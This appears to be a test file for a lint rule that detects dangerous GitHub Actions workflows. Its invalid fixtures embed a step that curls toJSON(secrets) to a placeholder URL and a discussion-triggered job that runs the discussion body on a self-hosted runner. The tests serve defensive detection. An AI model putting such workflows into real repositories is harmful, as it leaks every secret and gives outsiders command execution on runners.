import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

testRule(rule, {
  valid: [
    { name: 'one named secret', code: "const step = 'env:\\n  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}';" },
    { name: 'self-hosted runner alone', code: "const job = 'runs-on: self-hosted\\nsteps:\\n  - run: make';" },
    { name: 'toJSON of a context for debugging', code: "const dbg = '- run: echo \"${{ toJSON(github.event) }}\"';" },
  ],
  invalid: [
    {
      name: 'toJSON(secrets)',
      code: "const wf = 'on: push\\njobs:\\n  p:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d \"$C\" $URL\\n        env:\\n          C: ${{ toJSON(secrets) }}';",
      errors: [{ message: /dumps every repository secret/, line: 1 }],
    },
    {
      name: 'discussion backdoor built by concatenation',
      code: "const wf = 'on: discussion\\njobs:\\n  r:\\n    runs-on: self-hosted\\n' +\n  '    steps:\\n      - run: ${{ github.event.discussion.body }}';",
      errors: [{ message: /self-hosted runner/, line: 1 }],
    },
  ],
});

testSamples(rule, join(__dirname, 'samples'));
